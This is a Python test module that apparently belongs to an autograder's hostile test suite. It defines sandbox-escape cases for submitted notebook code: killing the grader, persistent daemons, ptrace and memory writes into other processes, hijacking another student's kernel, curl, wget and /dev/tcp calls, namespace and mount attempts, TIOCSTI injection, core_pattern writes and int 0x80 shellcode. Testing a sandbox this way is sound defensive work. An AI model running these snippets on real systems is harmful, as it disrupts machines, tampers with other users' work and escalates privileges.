"""Escapes that reach for processes, the network and the operating system."""

from tests.autograder.hostile.hand_in import RIGHT, SECOND, running
from tests.autograder.hostile.reading import TRY

GONE, HIT = "the grader, a victim or another student's marks gone; a survivor", "a listener of the host was reached"
OPEN = "a line 'reached: NAME' in the output"


def _escape(name, what, attack, evidence=GONE, **more):
    return running(name, what, "escape", 3.0, evidence, attack, second=RIGHT[SECOND], **more)


CALL = TRY + '''
import ctypes, ctypes.util, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def reached(name, result):
    print("reached: " + name if result >= 0 else f"{name}: {errno.errorcode.get(ctypes.get_errno())}")
'''
LATE_ACT = '''
import os, sys, time
def daemon(action):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                try:
                    os.close(number)
                except OSError:
                    pass
            action()
        os._exit(0)
'''

CASES = [
    _escape("p01-kill-parents", "kills its parents", TRY + '''
import os, signal
pid = os.getppid()
for _ in range(4):
    if pid > 1:
        parent = attempt(lambda: int(open(f"/proc/{pid}/stat").read().rsplit(")")[1].split()[1]))
        print(attempt(os.kill, pid, signal.SIGKILL))
        pid = parent if isinstance(parent, int) else 0
'''),
    _escape("p02-kill-all", "kill(-1): everything that this user may kill", '''
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)
'''),
    _escape("p03-kill-victim", "kills another process of the grader's user", TRY + '''
import os, signal
print(attempt(os.kill, W["victim"], signal.SIGKILL))
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if b"sleep" in (attempt(lambda: open(f"/proc/{pid}/cmdline", "rb").read()) or b""):
        print(attempt(os.kill, pid, signal.SIGKILL))
'''),
    _escape("p04-stop-grader", "stops its parents with SIGSTOP, so that the grader waits for ever", TRY + '''
import os, signal
print(attempt(os.kill, os.getppid(), signal.SIGSTOP), attempt(os.kill, W["victim"], signal.SIGSTOP))
'''),
    _escape("p05-daemon", "a daemon with double fork, own session and closed streams stays behind",
            LATE_ACT + "daemon(lambda: time.sleep(600))"),
    _escape("p06-daemon-ignores", "a daemon that ignores every signal it can and forks itself anew",
            LATE_ACT + '''
import signal
def stubborn():
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for _ in range(200):
        if os.fork():
            os._exit(0)
        os.setsid()
        time.sleep(0.3)
daemon(stubborn)
'''),
    _escape("p07-holds-output", "a child keeps the kernel's output open, so that who reads it waits", '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(400)"], start_new_session=True)
subprocess.Popen("sleep 400 &", shell=True)
'''),
    _escape("p08-ptrace", "attaches to another process with ptrace", CALL + '''
reached("ptrace-attach", libc.ptrace(16, W["victim"], 0, 0))
reached("ptrace-parent", libc.ptrace(16, os.getppid(), 0, 0))
'''),
    _escape("p09-write-memory", "writes into the memory of another process", CALL + '''
def write(pid):
    line = next(l for l in open(f"/proc/{pid}/maps") if "[stack]" in l)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(int(line.split("-")[0], 16))
        memory.write(b"planted")
    print("reached: write-memory")
for pid in (W["victim"], os.getppid()):
    print(attempt(write, pid))
'''),
    _escape("p10-limits", "lowers the processor time of its parents and the victim to a second", TRY + '''
import os, resource
for pid in (os.getppid(), W["victim"]):
    print(attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1)))
    print(attempt(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3)))
    print(attempt(os.sched_setaffinity, pid, {0}), attempt(os.setpriority, os.PRIO_PROCESS, pid, 19))
'''),
    _escape("p11-steal-descriptor", "takes open files out of its parents with pidfd_getfd", CALL + '''
for pid in (os.getppid(), W["victim"]):
    handle = libc.syscall(434, pid, 0)
    for number in range(3, 30):
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            print("reached: pidfd_getfd")
            print(attempt(os.pread, stolen, 5000, 0))
'''),
    _escape("p12-exec", "replaces the kernel by another program with LD_PRELOAD", TRY + '''
import os, sys
here = W["root"]
if os.fork() == 0:
    os.execve(sys.executable, [sys.executable, "-c", f"open({here!r} + '/planted-exec', 'w').write('x')"],
              {"LD_PRELOAD": "/tmp/planted.so", "PYTHONPATH": "."})
'''),
    _escape("p13-other-kernel", "waits for the next student's kernel and talks to it with its own key", LATE_ACT + '''
def wait():
    import glob, json
    from jupyter_client import BlockingKernelClient
    mine = set(glob.glob(W["root"] + "/home/.local/share/jupyter/runtime/kernel-*.json"))
    for _ in range(300):
        for path in set(glob.glob(W["root"] + "/home/.local/share/jupyter/runtime/kernel-*.json")) - mine:
            try:
                client = BlockingKernelClient(connection_file=path)
                client.load_connection_file()
                client.start_channels()
                client.execute("import os; os._exit(3)")
                time.sleep(0.5)
            except Exception:
                pass
        time.sleep(0.05)
daemon(wait)
'''),
    _escape("p14-setuid", "looks for programs that make it somebody else", TRY + '''
import os, subprocess
for line in ("su -c id root", "sudo -n id", "newgrp - root", "chsh -s /bin/sh", "crontab -l", "at -l", "mount",
             "systemd-run --user id", "pkexec id"):
    done = attempt(subprocess.run, line, shell=True, capture_output=True, text=True, timeout=2, input="")
    print(line, done)
    if "uid=0" in str(done):
        print("reached: root")
for call in (os.setuid, os.setgid):
    print(attempt(call, 0))
if os.getuid() == 0 and open("/proc/self/uid_map").read().split()[1] == "0" and "0 0 4294967295" in " ".join(
        open("/proc/self/uid_map").read().split()):
    print("reached: real-root")
'''),
    _escape("p20-tcp", "connects to a server of the host", TRY + '''
import socket
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    print(attempt(lambda: socket.create_connection((host, W["port"]), timeout=1).recv(100)))
''', HIT),
    _escape("p21-udp", "sends a datagram to the host, as DNS tunnels do", TRY + '''
import socket
print(attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"secret.example", ("127.0.0.1", W["port"])))
''', HIT),
    _escape("p22-unix", "connects to a Unix socket of the desktop, as D-Bus or Docker have", TRY + '''
import socket
for place in (W["bus"], "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix/X0"):
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(1)
    print(place, attempt(line.connect, place), attempt(line.recv, 100))
''', HIT),
    _escape("p23-abstract", "connects to an abstract Unix socket, which no file permission guards", TRY + '''
import socket
line = socket.socket(socket.AF_UNIX)
line.settimeout(1)
print(attempt(line.connect, W["abstract"]), attempt(line.recv, 100))
''', HIT),
    _escape("p24-tools", "sends what it has with curl, wget, /dev/tcp and pip", '''
import subprocess
address = f"http://127.0.0.1:{W['port']}/"
for line in (f"curl -m 1 {address}", f"wget -T 1 -t 1 -O - {address}", f"cat < /dev/tcp/127.0.0.1/{W['port']}",
             f"pip download --index-url {address} --no-input --timeout 1 --retries 0 planted"):
    print(subprocess.run(["bash", "-c", line], capture_output=True, text=True, errors="replace", timeout=5))
''', HIT),
    _escape("p25-raw", "opens sockets of every odd family", CALL + '''
for name, family, kind, number in (("packet", 17, 3, 768), ("raw", 2, 3, 1), ("vsock", 40, 1, 0), ("alg", 38, 5, 0),
                                   ("bluetooth", 31, 3, 1), ("tipc", 30, 5, 0), ("can", 29, 3, 1), ("xdp", 44, 3, 0),
                                   ("netlink-netfilter", 16, 3, 12), ("netlink-audit", 16, 3, 9)):
    reached("socket-" + name, libc.socket(family, kind, number))
''', OPEN),
    _escape("p30-namespaces", "makes namespaces of its own, to be root in them", CALL + '''
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("net", 0x40000000), ("pid", 0x20000000)):
    if (child := os.fork()) == 0:
        os._exit(libc.unshare(flag | 0x10000000) != 0)
    reached("unshare-" + name, -os.waitpid(child, 0)[1])
''', OPEN),
    _escape("p31-mount", "mounts over the course, changes root, pivots", CALL + '''
reached("mount", libc.mount(b"none", W["nbgrader"].encode(), b"tmpfs", 0, None))
reached("bind", libc.mount(b"/etc", b"/tmp", None, 4096, None))
reached("remount", libc.mount(None, b"/", None, 32 | 4096, None))
reached("umount", libc.umount2(b"/proc", 2))
reached("chroot", libc.chroot(b"/tmp"))
reached("fsopen", libc.syscall(430, b"tmpfs", 0))
reached("open_tree", libc.syscall(428, -100, b"/", 1))
reached("mknod", libc.mknod(b"/tmp/disk", 0o60666, os.makedev(8, 0)))
''', OPEN),
    _escape("p32-kernel-calls", "knocks at the kernel where it has a history: io_uring, bpf, userfaultfd", CALL + '''
room = ctypes.create_string_buffer(256)
for name, number, arguments in (
        ("io_uring", 425, (8, room)), ("userfaultfd", 323, (0,)), ("bpf", 321, (0, room, 64)),
        ("perf_event", 298, (room, 0, -1, -1, 0)), ("add_key", 248, (b"user", b"planted", b"x", 1, -3)),
        ("keyctl", 250, (0, -3, 1)), ("kexec", 246, (0, 0, 0, 0)), ("init_module", 175, (room, 0, b"")),
        ("fanotify", 300, (0, 0)), ("memfd", 319, (b"planted", 0)), ("acct", 163, (0,)),
        ("open_by_handle", 304, (-100, room, 0)), ("reboot", 169, (0, 0, 0, 0)), ("sethostname", 170, (b"x", 1)),
        ("settimeofday", 164, (room, 0)), ("swapon", 167, (b"/x", 0)), ("quotactl", 179, (0, 0, 0, 0))):
    reached(name, libc.syscall(number, *arguments))
''', OPEN),
    _escape("p33-terminal", "pushes a command into the terminal of the grader (TIOCSTI)", CALL + '''
import fcntl, termios
for place in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0"):
    def push():
        line = place if isinstance(place, int) else os.open(place, os.O_RDWR)
        fcntl.ioctl(line, termios.TIOCSTI, b"x")
        print("reached: tiocsti")
    print(attempt(push))
''', OPEN),
    _escape("p34-shared-memory", "leaves System V and POSIX shared memory behind", CALL + '''
reached("shmget", libc.shmget(0x706c, 4096, 0o1666))
reached("semget", libc.semget(0x706c, 1, 0o1666))
reached("msgget", libc.msgget(0x706c, 0o1666))
print(attempt(lambda: open("/dev/shm/planted", "w").write("x")))
''', OPEN),
    _escape("p35-devices", "opens devices: memory, disks, the kernel log", TRY + '''
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kmsg", "/proc/kcore", "/proc/sysrq-trigger",
             "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/loop-control", "/dev/vsock"):
    def look():
        open(path, "rb", buffering=0).close()
        print("reached: " + path)
    print(path, attempt(look))
for path in ("/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/sys/fs/cgroup/cgroup.procs"):
    def write():
        open(path, "w").write("-900" if "oom" in path else "|/planted")
        print("reached: " + path)
    print(path, attempt(write))
''', OPEN),
    _escape("p36-other-calls", "calls the system the 32-bit way and the x32 way, which filters forget", CALL + '''
import mmap
reached("x32-getpid", libc.syscall(0x40000000 + 39))
reached("x32-unshare", libc.syscall(0x40000000 + 272, 0x10000000))
if (child := os.fork()) == 0:
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(bytes.fromhex("53b836010000bb00000010cd805bc3"))
    where = ctypes.addressof(ctypes.c_char.from_buffer(page))
    os._exit(ctypes.CFUNCTYPE(ctypes.c_int)(where)() != 0)
reached("int80-unshare", -os.waitpid(child, 0)[1])
''', OPEN),
]
